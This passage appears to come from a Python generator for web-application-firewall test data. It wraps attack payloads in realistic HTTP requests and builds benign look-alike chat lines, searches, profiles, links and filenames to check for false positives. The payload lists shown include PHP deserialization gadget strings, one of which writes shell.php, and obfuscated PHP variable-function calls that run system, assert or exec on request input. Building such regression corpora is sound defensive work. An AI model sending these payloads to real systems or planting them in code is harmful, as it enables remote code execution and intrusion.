        "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:8:\"filename\";s:9:\"shell.php\";}",
        "a:2:{s:4:\"lang\";s:2:\"en\";s:5:\"theme\";O:5:\"Theme\":0:{}}",
        "O:21:\"JDatabaseDriverMysqli\":1:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}",
        "O:9:\"Exception\":1:{s:7:\"message\";s:1:\"x\";}",
        ("O:4:\"User\":1:{s:5:\"admin\";b:1;}", "jsonu"),
    ]),
    Sub("php", "php-variable-function-call", [
        "$f='system';$f('id');",
        "$a($_GET[1]);",
        "$_GET['a']($_GET['b']);",
        "${'_POST'}['x']('id')",
        "$x = 'assert'; $x($_REQUEST['c']);",
        "$func ( 'whoami' )",
        "$cb/**/('id')",
        "$a['fn']('id')",
        "@$_POST['c']($_POST['d'])",
        "$_COOKIE[\"a\"](\"id\")",
        ("%24f%28%27id%27%29", "pre"),
        ("$f($_GET[0]);", "jsonu"),
    ]),
    Sub("php", "php-variable-function-call-string", [
        "('sys'.'tem')('id');",
        "\"system\"('id');",
        "(\"pass\".\"thru\")(\"ls\");",
        "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")('id');",
        "[$obj,'exec']('id')",
        "(base64_decode('c3lzdGVt'))('id')",
        "('str'.'_rot13')('flfgrz')",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
        "'system'  ('id')",
        "(\"as\".\"sert\")($_POST[0]);",
        "(strrev('metsys'))('id')",
        "(~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\")('id')",
    ]),
    Sub("php", "php-medium-risk-function-name", [
        "fwrite",
        "unlink",
        "posix_getpwuid",
        "get_defined_vars",
        "curl_exec",
        "symlink",
        "ftp_connect",
        "chmod",
        "getenv",
        "phpversion",
        "php_uname",
        "socket_create",
        "posix_setuid",
    ], anchored=True),
]

SUBS: list[Sub] = LFI + RFI + RCE + PHP

# --------------------------------------------------------------------------------------------------------------
# Requests
# --------------------------------------------------------------------------------------------------------------
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.2592.87",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.9,fr;q=0.7"]
RS_UA = "OWASP CRS test agent"
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
JSON_FIELDS = ["bio", "title", "department", "nickname", "website", "notes"]
PER_PAGE = ["20", "50", "100"]
QUERY_SAFE = "-_.~"
COOKIE_SAFE = "/:()$'!*-_.~@"
RS_SAFE = "/:;,$()'!*@=~-_."

SEED = 1062024
_rng = random.Random(SEED)


def _reset() -> None:
    """Restart the token source, so that each call of attacks() or benign() gives the same records."""
    _rng.seed(SEED)


def _token(n: int = 24) -> str:
    return "".join(_rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(n))


def _hex(n: int) -> str:
    return "".join(_rng.choice("0123456789abcdef") for _ in range(n))


def browser(k: int, accept: str = "application/json", ref: str = "/admin/users", mode: str = "cors",
            cookie_extra: str = "") -> dict[str, str]:
    """A current browser's headers on app.example.com, with a session and a consent cookie."""
    cookie = f"session={_token(32)}; cookie_consent=necessary%2Canalytics"
    if cookie_extra:
        cookie += "; " + cookie_extra
    return {"User-Agent": BROWSER_UAS[k % len(BROWSER_UAS)], "Accept": accept,
            "Accept-Language": LANGS[k % len(LANGS)], "Accept-Encoding": "gzip, deflate, br",
            "Referer": f"https://app.example.com{ref}", "Sec-Fetch-Site": "same-origin",
            "Sec-Fetch-Mode": mode, "Sec-Fetch-Dest": "empty" if mode == "cors" else "document", "Cookie": cookie}


def rs_headers(extra: dict[str, str] | None = None) -> dict[str, str]:
    h = {"User-Agent": RS_UA, "Accept": "*/*"}
    if extra:
        h.update(extra)
    return h


def header_safe(p: str) -> bool:
    return all(32 <= ord(c) < 127 for c in p)


def enc_query(p: str, pre: bool, k: int) -> str:
    if pre:
        return p
    return urllib.parse.quote_plus(p, safe=QUERY_SAFE if k % 2 else "")


def enc_cookie(p: str, pre: bool) -> str:
    return p if pre else urllib.parse.quote(p, safe=COOKIE_SAFE)


def json_unicode(text: str) -> str:
    """A JSON string literal that writes / . < > ? $ ( ) : ' and the space as \\u escapes."""
    out = []
    for c in text:
        if c in "/.<>?$():' ":
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(json.dumps(c, ensure_ascii=False)[1:-1])
    return '"' + "".join(out) + '"'


def xml_text(p: str, entities: bool) -> str:
    if entities:
        return "".join(f"&#x{ord(c):x};" if c in "<>?/.&'\"" else c for c in p)
    return p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def csv_cell(p: str) -> str:
    return '"' + p.replace('"', '""') + '"'


def multipart(fields: list[tuple[str, str, str | None, str]], k: int) -> tuple[str, str]:
    """(body, content type) of a multipart/form-data body: (name, value, filename, part content type)."""
    boundary = "----WebKitFormBoundary" + _token(16)
    parts = []
    for name, value, filename, ctype in fields:
        disp = f'form-data; name="{name}"'
        if filename is not None:
            disp += '; filename="' + filename.replace('"', "%22") + '"'
        head = f"Content-Disposition: {disp}\r\n"
        if filename is not None:
            head += f"Content-Type: {ctype}\r\n"
        parts.append(f"--{boundary}\r\n{head}\r\n{value}\r\n")
    return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"


def req(method: str, uri: str, headers: dict[str, str], body: str = "") -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": headers}


def json_doc(k: int, key: str, value: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"name": ["Ann Lee", "Jonas Becker", "Priya Natarajan", "Tom O'Hara"][k % 4],
                            "email": ["ann.lee@example.com", "jonas.b@example.de", "priya@example.in",
                                      "tom.ohara@example.ie"][k % 4],
                            "department": ["Sales", "Engineering", "Finance", "Support"][k % 4]}
    base[key] = value
    return base


def json_body(k: int, key: str, p: str, unicode_esc: bool, as_list: bool) -> str:
    """The JSON body carrying p as the value of key (or as the second item of a list under key)."""
    marker = "\u0000MARK\u0000"
    doc = json_doc(k, key, ["billing", marker] if as_list else marker)
    text = json.dumps(doc, ensure_ascii=False)
    lit = json_unicode(p) if unicode_esc else json.dumps(p, ensure_ascii=False)
    return text.replace(json.dumps(marker, ensure_ascii=False), lit)


def slack_body(k: int, text: str) -> str:
    ts = 1718900000 + k
    event = {"type": "message" if k % 2 else "app_mention", "user": "U0" + _token(8).upper(), "text": text,
             "ts": f"{ts}.{_hex(6)}", "channel": "C0" + _token(8).upper(), "event_ts": f"{ts}.000200"}
    return json.dumps({"token": _token(24), "team_id": "T0" + _token(8).upper(), "api_app_id": "A0" + _token(8).upper(),
                       "event": event, "type": "event_callback", "event_id": "Ev0" + _token(9).upper(),
                       "event_time": ts}, ensure_ascii=False)


def ours_request(place: str, p: str, enc: str, s: Sub, k: int) -> dict[str, Any]:
    """The payload in one of our real routes' input places."""
    pre = enc == "pre"
    key, value = (p.split("=", 1) if "=" in p else (p, "")) if enc == "kv" else ("q", p)
    if enc == "kv" and not value:
        key, value = "include", p
    if place == "query":
        if enc == "qs":
            return req("GET", f"/api/users?{p}", browser(k))
        params = [(key, enc_query(value, pre, k)), ("page", str(1 + k % 4)), ("per_page", PER_PAGE[k % 3])]
        params = params[k % 3:] + params[:k % 3]
        return req("GET", "/api/users?" + "&".join(f"{urllib.parse.quote(a, safe='[]_')}={b}" for a, b in params),
                   browser(k))
    if place in ("form", "me-form"):
        uri = "/admin/users/search" if place == "form" else "/me/settings"
        settings_field = ["display_name", "signature", "timezone"][k % 3]
        field_name = key if enc == "kv" else ("q" if place == "form" else settings_field)
        if not pre and not s.anchored and enc != "kv" and k % 3 == 0:
            field_name, value = "import_rows", ",".join([csv_cell("Lee"), csv_cell(value), csv_cell("Sales")])
        v = value if pre else urllib.parse.quote_plus(value)
        body = f"csrf_token={_token(40)}&{urllib.parse.quote_plus(field_name, safe='[]')}={v}"
        if place == "form":
            body += f"&sort=name&dir={'asc' if k % 2 else 'desc'}"
        h = browser(k, "text/html,application/xhtml+xml", ref=uri, mode="navigate")
        h["Content-Type"] = "application/x-www-form-urlencoded"
        h["Origin"] = "https://app.example.com"
        return req("POST", uri, h, body)
    if place in ("json", "json-patch"):
        jkey = key if enc == "kv" else JSON_FIELDS[k % len(JSON_FIELDS)]
        as_list = enc not in ("kv",) and k % 4 == 1
        body = json_body(k, jkey, value, enc == "jsonu", as_list)
        h = browser(k)
        h["Content-Type"] = "application/json"
        h["Origin"] = "https://app.example.com"
        return req("PATCH" if place == "json-patch" else "POST",
                   "/api/users/42" if place == "json-patch" else "/api/users", h, body)
    if place == "slack":
        h = {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
             "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
             "X-Slack-Request-Timestamp": str(1718900000 + k), "X-Slack-Signature": "v0=" + _hex(64)}
        return req("POST", "/slack/events", h, slack_body(k, p))
    if place == "cookie":
        return req("GET", f"/api/users?page={1 + k % 3}", browser(k, cookie_extra="prefs=" + enc_cookie(p, pre)))
    if place == "header:X-File-Name":   # an AJAX uploader: the file's name in a header, its bytes as the body
        h = browser(k)
        h.update({"X-File-Name": p, "X-Requested-With": "XMLHttpRequest", "Content-Type": "application/octet-stream"})
        return req("POST", "/api/users/42/avatar", h, "GIF89a;profile image bytes")
    if place.startswith("header:"):
        name = place.split(":", 1)[1]
        h = browser(k)
        h[name] = p
        return req("GET", f"/api/users?per_page={PER_PAGE[k % 3]}", h)
    if place == "param-name":
        name = p if pre else urllib.parse.quote(p, safe="")
        return req("GET", f"/api/users?{name}=1&page={1 + k % 3}", browser(k))
    if place == "path":
        seg = p if pre else urllib.parse.quote(p, safe="")
        if s.sub == "restricted-file-access":
            return req("GET", "/api/users" + (p if p.startswith("/") else "/" + p), browser(k))
        return req("GET", f"/api/users/{seg}", browser(k))
    if place == "xml":
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann Lee</name><email>ann.lee@example.com'
                f"</email><bio>{xml_text(p, enc == 'ent')}</bio></user>")
        h = browser(k, "application/xml")
        h["Content-Type"] = "application/xml"
        return req("POST", "/api/users", h, body)
    if place in ("multipart-field", "multipart-filename"):
        if place == "multipart-field":
            fields: list[tuple[str, str, str | None, str]] = [("display_name", "Ann Lee", None, ""),
                                                               ("bio", p, None, "")]
        else:
            fields = [("caption", "profile picture", None, ""), ("file", "GIF89a;profile image bytes", p, "image/gif")]
        body, ctype = multipart(fields, k)
        h = browser(k)
        h["Content-Type"] = ctype
        return req("POST", "/api/users/42/avatar", h, body)
    raise ValueError(place)


def rs_request(place: str, p: str, enc: str, k: int) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it, to a path that is not one of our routes."""
    pre = enc == "pre"
    path = RS_PATHS[k % len(RS_PATHS)]
    pname = RS_PARAMS[k % len(RS_PARAMS)]
    if enc == "kv":
        pname, p = p.split("=", 1) if "=" in p else ("include", p)
    if place == "rs-query":
        if enc == "qs":
            return req("GET", f"{path}?{p}", rs_headers())
        v = p if pre else urllib.parse.quote(p, safe=RS_SAFE)
        return req("GET", f"{path}?{urllib.parse.quote(pname, safe='[]_')}={v}", rs_headers())
    if place == "rs-form":
        v = p if pre else urllib.parse.quote_plus(p)
        return req("POST", path, rs_headers({"Content-Type": "application/x-www-form-urlencoded"}),
                   f"{urllib.parse.quote(pname, safe='[]_')}={v}")
    if place == "rs-raw-body":
        body = f"{pname}={p}" if enc == "kv" else p
        return req("POST", path, rs_headers({"Content-Type": "application/x-www-form-urlencoded"}), body)
    if place == "rs-json":
        lit = json_unicode(p) if enc == "jsonu" else json.dumps(p, ensure_ascii=False)
        body = f'{{"{pname}": {lit}}}' if k % 2 else f'{{"id": {k}, "data": {{"{pname}": {lit}}}}}'
        return req("POST", path, rs_headers({"Content-Type": "application/json"}), body)
    if place == "rs-xml":
        body = f'<?xml version="1.0"?><root><{pname}>{xml_text(p, enc == "ent")}</{pname}></root>'
        return req("POST", path, rs_headers({"Content-Type": "text/xml"}), body)
    if place == "rs-header:User-Agent":
        return req("GET", path, {"User-Agent": p, "Accept": "*/*"})
    if place == "rs-header:Referer":
        return req("GET", path, rs_headers({"Referer": p}))
    if place == "rs-header:X-Custom":
        return req("GET", path, rs_headers({"X-Custom-Header": p}))
    if place == "rs-header:X-Filename":
        return req("POST", "/upload.php" if k % 2 else path,
                   rs_headers({"X-Filename": p, "Content-Type": "application/octet-stream"}), "GIF89a")
    if place == "rs-cookie":
        return req("GET", path, rs_headers({"Cookie": f"{pname}={p if pre else p.replace(';', '%3B')}"}))
    if place == "rs-param-name":
        name = p if pre else urllib.parse.quote(p, safe=RS_SAFE)
        return req("GET", f"{path}?{name}=1", rs_headers())
    if place == "rs-path":
        seg = p if pre else urllib.parse.quote(p, safe="/" if p.startswith("/") else "")
        return req("GET", seg if seg.startswith("/") else "/" + seg, rs_headers())
    if place in ("rs-multipart-field", "rs-multipart-filename"):
        if place == "rs-multipart-field":
            fields: list[tuple[str, str, str | None, str]] = [(pname, p, None, "")]
        else:
            fields = [("file", "GIF89a", p, "application/octet-stream")]
        body, ctype = multipart(fields, k)
        return req("POST", "/upload.php" if place.endswith("filename") and k % 2 else path,
                   rs_headers({"Content-Type": ctype}), body)
    raise ValueError(place)


def _fit(place: str, p: str, enc: str, ours: bool) -> str:
    """The place, or a body/query place when the payload cannot go there (CR/LF or non-ASCII in a header)."""
    if (place.startswith(("header:", "rs-header:")) or place in ("cookie", "rs-cookie")) and not header_safe(p):
        return "json" if ours else "rs-json"
    return place


def _places(s: Sub, enc: str, i: int) -> tuple[str, str]:
    if enc == "pre":
        ours, rs = OURS_PRE, RS_PRE
        if s.sub == "rfi-common-param-name":
            ours, rs = ["query", "form"], ["rs-query", "rs-form"]
    elif enc == "jsonu":
        ours, rs = ["json", "json-patch"], ["rs-json"]
    elif enc == "ent":
        ours, rs = ["xml"], ["rs-xml"]
    elif enc == "qs":
        ours, rs = ["query"], ["rs-query"]
    else:
        ours, rs = s.ours or OURS_DEFAULT, s.rs or RS_DEFAULT
    return ours[i % len(ours)], rs[(i * 5 + 3) % len(rs)]


def attacks() -> Iterator[dict[str, Any]]:
    _reset()
    n = 0
    for si, s in enumerate(SUBS):
        for i, entry in enumerate(s.payloads):
            p, enc = (entry, "") if isinstance(entry, str) else entry
            o_place, r_place = _places(s, enc, i + si)
            o_place, r_place = _fit(o_place, p, enc, True), _fit(r_place, p, enc, False)
            for place, rec in ((o_place, ours_request(o_place, p, enc, s, n)),
                               (r_place, rs_request(r_place, p, enc, n))):
                n += 1
                label = "json" if place in ("json-patch", "slack") else "form" if place == "me-form" else place
                yield {**rec, "id": f"{NAME}-{s.category}-{n:04d}", "category": s.category, "sub": s.sub,
                       "placement": label, "payload": p}


# --------------------------------------------------------------------------------------------------------------
# Benign: the same words, innocently, in the same places
# --------------------------------------------------------------------------------------------------------------
CHAT = [
    "can someone cat the nginx error log on staging and paste the last 20 lines here?",
    "the id column in the export is off by one, see row 42",
    "ran `ls -la` in the deploy dir and the symlink is there",
    "who has access to /etc/nginx/conf.d on the new box?",
    "please don't commit the .env file again :sweat_smile:",
    "updated the .htaccess redirect rules for the old blog",
    "our web.config on the IIS box still has the old connection string name",
    "ping me when the migration is done",
    "system maintenance window tonight 22:00-23:00 UTC",
    "the exec summary is in the drive, folder Q3",
    "php 8.3 upgrade next week, the php.ini changes are in the PR",
    "the powershell script for AD sync failed again, Get-ADUser timed out",
    "run `git pull && npm ci` before the demo",
    "for loops in batch files are painful, I'll port it to python",
    "if the installer finds an old version it asks to remove it first",
    "the relative link ../docs/setup.md is broken in the README",
    "select the whole column and paste it into the sheet",
    "I'll curl the health endpoint after the deploy",
    "wget is not installed on the alpine image, use curl",
    "history of the project is on the wiki under About",
    "alias for the prod cluster is kprod, add it to your shell config",
    "sqlite .schema shows the users table has no index on email",
    "SMTP relay is mail.example.com port 587 with STARTTLS",
    "IMAP sync in Thunderbird is slow again today",
    "POP3 is disabled for all mailboxes from Monday",
    "the serialized session format changed with the Laravel upgrade",
    "the server variables are logged only in debug mode",
    "zip files over 20 MB are rejected by the uploader",
    "the phar for composer lives in /usr/local/bin",
    "data URIs for the icons are inlined by the bundler",
    "the callback URL is https://app.example.com/oauth/callback",
    "anyone seen a 500 from /api/users?page=3 today?",
    "rename report_controller to reports in the refactor",
    "shell scripts live in ./scripts, run ./scripts/bootstrap.sh",
    "bash 5.2 on the runners, zsh on our laptops",
    "the python venv is in .venv, activate it first",
    "whoami on the build agent says jenkins",
    "uname output is attached to the ticket",
    "the proc filesystem stats come from node_exporter",
    "that 2014 bash bug (shellshock) doesn't affect our containers",
    "execution policy is restricted on the corporate laptops",
    "net use drive mapping for the shared folder is S:",
    "the cmd window closes immediately, add pause at the end",
    "use dir /s to find the file on the share",
    "the ipconfig /all output shows the DNS suffix",
    "tasklist shows two java processes on the VM",
    "certutil is what we use to check the cert hash",
    "lunch at 12:30? the thai place on 5th",
    "cat picture of the day: Mochi sleeping on the keyboard",
    "the system is down? no, just the VPN",
    "I'll grep the logs for the request id",
    "can we evaluate the new vendor next week?",
    "the assert in test_user fails on Windows only",
    "include the Q3 numbers in the deck please",
    "require approval from finance for anything over $5,000",
    "copy & paste the table into the email",
    "R&D budget for 2025 is approved",
    "Tom & Jerry meeting room is booked until 3",
    "Q&A session after the talk, bring questions",
    "AT&T invoice is in the finance folder",
    "price went from $10 to $12 (20% up)",
    "the file is at C:\\Users\\ann\\Documents\\Q3.xlsx",
    "the regex ^(\\d+)$ only matches numbers",
    "echo the build number into version.txt",
    "the for loop in the template renders 3 cards",
    "if the ticket is urgent, page the on-call",
    "use array_map instead of the foreach there",
    "unlink the temp file after the upload finishes",
    "getenv reads APP_ENV at boot, restart after changing it",
    "preg_replace is slower than str_replace for this case",
    "the fwrite call is buffered, flush before closing",
    "the base64 encoded logo in the email template is 40 KB",
    "phpinfo page is disabled in prod, good",
    "file uploads go to S3 now, not the local disk",
    "the symlink to current release is updated by the deploy",
    "who owns the cron that runs at 3am?",
    "host names: web-01, web-02, db-01",
    "the Tuesday sync is moved to Wednesday 10am",
    "PTO calendar is updated, I'm out 12-16 Aug",
    "new hire starts Monday, please add her to #eng",
    "the dashboard shows p99 at 180 ms",
    "we hit the rate limit on the partner API twice today",
    "the terraform plan adds 3 resources and changes 1",
    "the kubectl context for staging is stg-eu",
    "top shows the worker at 90% CPU, restarting it",
    "df says the disk is 85% full on db-01",
    "env vars for the worker are in the helm values",
    "the ps output shows zombie processes after the deploy",
    "tail the logs while I reproduce it",
    "the head of the CSV has the wrong column names",
    "dig shows the new DNS record already",
    "the nc check on port 5432 works from the bastion",
    "telnet to port 25 is blocked by the ISP, as expected",
    "python 3.12 is the default on the new image",
    "perl is still used by the old billing cron",
    "the find command takes ages on the NFS share",
    "chmod the key to 600 or ssh complains",
    "the awk one-liner in the wiki sums the second column",
    "sleep 5 between retries is enough",
    "the base path for the API is /api/v1",
    "the mail from noreply@example.com went to spam",
    "RCPT TO errors in the mail log are from the old list",
    "the INBOX folder is full for the support mailbox",
    "LIST and SELECT are slow on the shared mailbox",
    "the QUIT button in the kiosk app does nothing",
    "the DATA team meets on Thursdays",
    "HELO from the new relay shows the right hostname now",
    "Sales & Marketing offsite is in Lisbon",
    "our WEB-INF folder is generated by the build, don't edit it",
    "the git config for the repo sets autocrlf to input",
    "the .DS_Store files keep showing up in PRs, add them to .gitignore",
    "the 127.0.0.1 binding is only for local dev",
    "see http://localhost:8080/docs for the local swagger",
    "the include path for the templates is set in config",
    "upload the avatar as png or jpg, not gif",
    "the alias table maps old SKUs to new ones",
]

SEARCHES = [
    "Ann Lee", "O'Brien", "Smith & Sons", "cat", "systems engineer", "exec assistant", "id 4411", "ls", "ps",
    "dir", "type", "net", "for", "if", "php developer", "java", "powershell admin", "etc", "C:\\Temp",
    "10.0.0.12", "https://example.com/about", "jose@example.com", "Zoë Müller", "山田太郎", "Dr. Who",
    "R&D", "AT&T", "sales; marketing", "support | tier 2", "ops && infra", "cost > 100", "x < y",
    "50% off", "#general", "@channel", "C++ developer", "C# .NET", "Node.js", "file server", "backup admin",
    "shell company", "Shell Oil", "bash party", "Eval team", "system admin", "include", "require", "echo",
    "curl", "wget", "python", "perl", "ruby", "history", "alias", "sleep study", "top sales", "head of sales",
    "tail", "data", "mail", "list", "select", "quit", "retr", "user admin", "root", "passwd reset",
    "reset password", "win.ini", "boot", "proc", "self", "environ", "config", "web", "temp", "tmp",
    "1;2;3", "a|b", "a&b", "(555) 123-4567", "+49 30 1234567", "O'Reilly Media", "Ben & Jerry's",
    "john.smith", "JSmith", "jane_doe", "ID-2024-0042", "INV/2024/0042", "2024-06-01..2024-06-30",
    "price:10..20", "name:ann*", "eng OR ops", "\"exact phrase\"", "-archived", "sales/emea",
    "emea/sales", "Q3 2024", "v1.2.3", "~ann", "ann@",
]

PROFILES: list[dict[str, str]] = [
    {"name": "Siobhán O'Neil", "title": "Director, R&D", "department": "Research & Development"},
    {"name": "José Álvarez", "title": "Systems Administrator", "department": "IT Operations"},
    {"name": "Zoë Müller", "title": "Executive Assistant", "department": "Office of the CEO"},
    {"name": "山田太郎", "title": "Backend Engineer", "department": "Platform"},
    {"name": "Ann Lee", "bio": "I run the shell scripts that keep our CI alive. Fan of cats and curl."},
    {"name": "Jonas Becker", "bio": "PHP and Go developer. Maintains the billing system and the exec reports."},
    {"name": "Priya Natarajan", "bio": "PowerShell, Windows Server, IIS. Ask me about web.config."},
    {"name": "Tom O'Hara", "bio": "Perl hacker turned Python person. Likes history and ping-pong."},
    {"name": "Fatima Zahra", "bio": "Data engineer; I select, I join, I group by."},
    {"name": "Chen Wei", "bio": "Email infra: SMTP, IMAP, POP3. Yes, people still use POP3."},
    {"name": "Lars Nilsson", "bio": "Ops. Likes /etc, dislikes snowflake servers."},
    {"name": "Mary-Jane Watson", "bio": "Support lead. Typical day: reset passwords, find lost files."},
    {"name": "Ivan Petrov", "bio": "Security team. Pentests, CTFs, and the occasional shellshock talk."},
    {"name": "Grace Hopper II", "bio": "Compilers, COBOL nostalgia, and a cat named Root."},
    {"name": "Ahmed Hassan", "title": "Network Engineer", "department": "Infrastructure & Networks"},
    {"name": "Léa Dubois", "title": "Product Manager", "department": "Growth"},
    {"name": "Kofi Mensah", "title": "QA Engineer", "bio": "I assert things for a living."},
    {"name": "Olga Ivanova", "address": "Leninsky pr. 12; apt. 4, Moscow"},
    {"name": "Sam Taylor", "address": "1 Infinite Loop; Cupertino, CA 95014"},
    {"name": "Ben Carter", "address": "221B Baker Street, London NW1 6XE"},
    {"name": "Nina Rossi", "address": "Via del Corso 12/A, 00186 Roma"},
    {"name": "Hans Gruber", "address": "Nakatomi Plaza, 2121 Avenue of the Stars, #30"},
    {"name": "Eve Adams", "website": "https://eve.example.org/blog?tag=php&page=2"},
    {"name": "Rui Costa", "website": "https://github.com/ruicosta"},
    {"name": "Mia Wong", "website": "https://mia.example.com/portfolio/index.html"},
    {"name": "Dev Patel", "nickname": "dev; the build guy"},
    {"name": "Lucy Liu", "nickname": "lucy | design"},
    {"name": "Omar Farouk", "nickname": "omar && the ops crew"},
    {"name": "Karen Page", "notes": "Prefers email. Out Fridays. Reports to (interim) CFO."},
    {"name": "Frank Castle", "notes": "Contractor until 2024-12-31; access to /reports only."},
    {"name": "Wade Wilson", "notes": "Says 'whoami?' every standup. Harmless."},
    {"name": "Bruce Wayne", "title": "Chief Executive Officer", "department": "Executive"},
    {"name": "Diana Prince", "title": "Head of Sales (EMEA)", "department": "Sales"},
    {"name": "Clark Kent", "title": "Technical Writer", "bio": "Writes docs about cat, ls and friends."},
    {"name": "Peter Parker", "title": "Intern", "bio": "Learning bash, vim and git this summer."},
    {"name": "Tony Stark", "title": "VP Engineering", "bio": "Likes systems that page nobody."},
    {"name": "Natasha Romanoff", "title": "Security Analyst", "bio": "Reads logs so you don't have to."},
    {"name": "Steve Rogers", "title": "Facilities Manager", "department": "Ops & Facilities"},
    {"name": "Wanda Maximoff", "title": "UX Researcher", "bio": "Interviews users, writes if/then journeys."},
    {"name": "Scott Lang", "title": "Support Engineer", "bio": "Tier 2; Windows, dir, type, net use."},
    {"name": "Hope van Dyne", "title": "COO", "department": "Operations"},
    {"name": "Bucky Barnes", "title": "Warehouse Lead", "department": "Logistics"},
    {"name": "Sam Wilson", "title": "Recruiter", "bio": "Hiring PHP, Java and Node developers."},
    {"name": "Carol Danvers", "title": "Pilot Program Lead", "department": "Partnerships"},
    {"name": "Shuri Udaku", "title": "R&D Engineer", "bio": "Prototypes, 3D printing, Python."},
    {"name": "Matt Murdock", "title": "Legal Counsel", "department": "Legal & Compliance"},
    {"name": "Jessica Jones", "title": "Investigator", "bio": "Finds things. Files, mostly."},
    {"name": "Luke Cage", "title": "Site Reliability Engineer", "bio": "uptime > everything"},
    {"name": "Danny Rand", "title": "Finance Analyst", "department": "Finance"},
    {"name": "Misty Knight", "title": "Data Scientist", "bio": "pandas, numpy, and too much coffee"},
    {"name": "Elektra Natchios", "title": "Account Executive", "department": "Sales"},
    {"name": "Frank Miller", "title": "Art Director", "department": "Brand & Design"},
    {"name": "Aoife Ní Bhriain", "title": "Community Manager", "department": "Marketing"},
    {"name": "Björn Ölund", "title": "Firmware Engineer", "department": "Devices"},
    {"name": "Małgorzata Kowalska", "title": "Accountant", "department": "Finance"},
    {"name": "Nguyễn Văn An", "title": "Mobile Developer", "department": "Apps"},
    {"name": "Søren Kierkegaard", "title": "Philosopher in Residence", "bio": "Either/or."},
    {"name": "Ana-María López", "title": "Customer Success", "department": "CS"},
    {"name": "Jean-Luc Picard", "title": "Engineering Manager", "bio": "Make it so (with tests)."},
    {"name": "Rafael Nadal", "title": "Sales Engineer", "bio": "Demos, POCs, the occasional curl."},
]

LINKS = [
    "https://www.php.net/manual/en/function.exec.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://www.gnu.org/software/bash/manual/bash.html#Aliases",
    "https://sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://github.com/acme/api/blob/main/scripts/deploy.sh",
    "https://github.com/acme/web/tree/main/public/.well-known",
    "https://example.com/files/report.pdf",
    "https://cdn.example.org/js/app.js?v=1.2.3",
    "https://docs.example.com/guide/../faq.html",
    "http://192.168.1.10:8080/dashboard",
    "https://10.0.0.5/status",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://en.wikipedia.org/wiki/Cat_(Unix)",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://stackoverflow.com/questions/4668640/how-to-execute-a-command-in-php",
    "https://laravel.com/docs/11.x/filesystem",
    "https://symfony.com/doc/current/components/process.html",
    "https://nodejs.org/api/child_process.html",
    "https://wiki.archlinux.org/title/Bash",
    "https://tldp.org/LDP/abs/html/",
    "https://www.example.co.uk/path/to/page.html#section-2",
    "https://maps.example.com/?q=52.52,13.40&z=12",
    "https://shop.example.com/cart?item=42&qty=2&ref=mail",
    "https://app.example.com/admin/users/search?q=ann&page=2",
    "https://files.example.com/download?file=report-2024.pdf",
    "https://blog.example.org/2024/05/why-we-moved-off-php-5",
    "ftp://ftp.example.org/pub/README",
    "https://calendar.example.com/event?id=8842&tz=Europe/Berlin",
    "https://status.example.com/incidents/2024-06-01",
    "https://www.google.com/search?q=windows+cmd+for+loop",
    "https://raw.githubusercontent.com/acme/dotfiles/main/README.md",
]

FILENAMES = [
    "Q3 report (final).pdf", "avatar.png", "résumé.docx", "backup-2024-06-01.tar.gz", "notes.txt",
    "invoice#42.pdf", "config.example.yml", "photo 2024-05-01.jpg", "README.md", "deploy.sh", "index.html",
    "scan_0001.tiff", "team photo.JPG", "slides_v2.pptx", "budget 2025.xlsx", "contract - signed.pdf",
    "logo@2x.png", "data.csv", "export (1).json", "meeting-notes.md", "screenshot 2024-06-03 at 10.12.44.png",
    "diagram.drawio", "profile.webp", "sound.mp3", "clip.mov", "archive.zip", "cv_ana-maría.pdf",
    "letter.odt", "map.kml", "font.woff2", "users_import.csv", "php-cheatsheet.pdf", "powershell-notes.txt",
    "system-design.png", "etc-hosts-howto.md", "cat.gif", "id-card-scan.jpg", "passport.pdf", "web-config-guide.pdf",
    "history.txt",
]

CLIENT_UAS = [
    *BROWSER_UAS,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
